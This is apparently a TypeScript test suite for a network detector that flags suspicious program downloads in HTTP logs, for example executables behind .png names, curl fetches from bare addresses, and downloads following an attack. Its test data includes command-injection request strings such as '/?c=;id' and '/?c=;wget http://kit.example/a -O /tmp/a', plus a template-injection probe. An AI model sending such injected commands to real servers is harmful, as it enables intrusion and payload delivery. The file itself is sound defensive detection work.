import { describe, expect, test } from 'vitest';
import { http } from '../../../../test/build/http-rows.ts';
import type { LogRow } from '../../../../test/build/rows.ts';
import { describeDetector, findingsOf, readFixture } from '../../../../test/contract/detector.ts';
import type { HttpRecord } from '../../../model/records/http.ts';
import { isProgramHead, kindOf, traitsOf } from './download-traits.ts';
import { toolDownload } from './tool-download.ts';

describeDetector(toolDownload, import.meta.dirname);

test('names the machine, the file and every reason', () => {
  const [first] = findingsOf(toolDownload, readFixture(`${import.meta.dirname}/fixtures/fires.ndjson`));
  expect(first).toMatchObject({
    severity: 'medium',
    subject: { address: '10.0.1.12' },
    peers: [{ address: '203.0.113.162', port: 8000 }],
    records: ['C1'],
  });
  expect(first?.evidence['traits']).toEqual([
    'fetched from a bare address',
    'from port 8000',
    'under an address that shows no program',
    'by a command-line client (curl/8.5.0)',
  ]);
});

test('knows what a program and a lie are', () => {
  expect(kindOf('application/x-dosexec')).toBe('program');
  expect(kindOf('text/html')).toBe('none');
  const png = { mime: 'application/x-dosexec', host: 'img.example', isPublic: true, port: 80, uri: '/a.png?x=1', agent: 'Mozilla/5.0' };
  const texts = (change: Partial<typeof png>): readonly string[] => traitsOf({ ...png, ...change }).map(({ text }) => text);
  expect(texts({})).toEqual(['a program behind the ending .png']);
  expect(texts({ uri: '/setup.exe' })).toEqual([]);
  expect(texts({ uri: '/a.exe', host: 'abc.trycloudflare.com' })).toEqual(['from a site where anybody drops files']);
  expect(texts({ uri: '/gDR/', agent: 'vBKbaQgjyvRRbcgfvlsc' })).toEqual([
    'under an address that shows no program',
    'by a client with a meaningless name (vBKbaQgjyvRRbcgfvlsc)',
  ]);
  expect(traitsOf({ ...png, uri: '/a.exe', host: '10.0.0.5', isPublic: false })).toEqual([
    { text: 'fetched from a bare private address', isStrong: false },
  ]);
});

test('recognises programs by their first bytes', () => {
  for (const head of ['MZ\\x90\\x00\\x03', '/&\\x12\\x00MZARUH\\x89', '\\x7fELF\\x02\\x01', '\\x00\\x10\\x00\\x00\\x7fELF\\x01'])
    expect(isProgramHead(head)).toBe(true);
  for (const head of [undefined, '', 'MZ is a country', 'hello MZARUH, how are you', '\\x7fEL']) expect(isProgramHead(head)).toBe(false);
});

describe('weighs', () => {
  const fetch = (seconds: number, from: string, values: Partial<HttpRecord> = {}): LogRow =>
    http(seconds, '10.0.1.12:40000', from, '/kit', { user_agent: 'curl/8.5.0', resp_mime_types: ['application/x-executable'], ...values });
  const attack = http(0, '198.51.100.66:5000', '10.0.1.12:80', '/?c=;id');
  const severities = (...rows: readonly LogRow[]): readonly string[] => findingsOf(toolDownload, rows).map(({ severity }) => severity);

  test('a strange public place more than a private address', () => {
    expect(severities(fetch(0, '203.0.113.9:80'))).toEqual(['medium']);
    expect(severities(fetch(0, '10.0.1.5:80'))).toEqual(['low']);
    expect(severities(fetch(0, '10.0.1.5:8888'))).toEqual(['medium']);
  });

  test('what comes within minutes after an attack most, whatever the order of rows', () => {
    expect(severities(attack, fetch(60, '203.0.113.9:80'))).toEqual(['high']);
    expect(severities(fetch(60, '203.0.113.9:80'), attack)).toEqual(['high']);
    expect(severities(attack, fetch(60, '10.0.1.5:80'))).toEqual(['medium']);
    expect(severities(attack, fetch(1200, '203.0.113.9:80'))).toEqual(['medium']);
    const probe = http(0, '198.51.100.66:5000', '10.0.1.12:80', '/?q={{7*7}}');
    expect(severities(probe, fetch(60, '10.0.1.5:80'))).toEqual(['low']);
  });

  test('what comes from the attacker or from an end that the attack named most of all', () => {
    expect(severities(attack, fetch(60, '198.51.100.66:80'))).toEqual(['high']);
    const naming = http(0, '198.51.100.66:5000', '10.0.1.12:80', '/?c=;wget http://kit.example/a -O /tmp/a');
    expect(severities(naming, fetch(60, '10.0.1.5:80', { host: 'kit.example' }))).toEqual(['high']);
  });

  test('no place that the machine knew before the attack', () => {
    const routine = [fetch(-3600, '203.0.113.9:80'), attack, fetch(60, '203.0.113.9:80')];
    expect(severities(...routine)).toEqual(['medium']);
  });

  test('package mirrors hardly ever', () => {
    const package_ = { host: 'deb.debian.org', uri: '/pool/x', user_agent: 'Debian APT-HTTP/1.3' };
    expect(severities(fetch(0, '203.0.113.9:80', package_))).toEqual([]);
  });
});

test('finds a stage that is pushed over a bare connection, in either direction', () => {
  const row = readFixture(`${import.meta.dirname}/fixtures/pushed.ndjson`);
  expect(findingsOf(toolDownload, row)).toMatchObject([
    { severity: 'medium', subject: { address: '10.0.1.12' }, peers: [{ address: '203.0.113.162', port: 4444 }] },
    { severity: 'medium', subject: { address: '10.0.1.13' }, peers: [{ address: '203.0.113.162', port: 50_000 }] },
  ]);
});
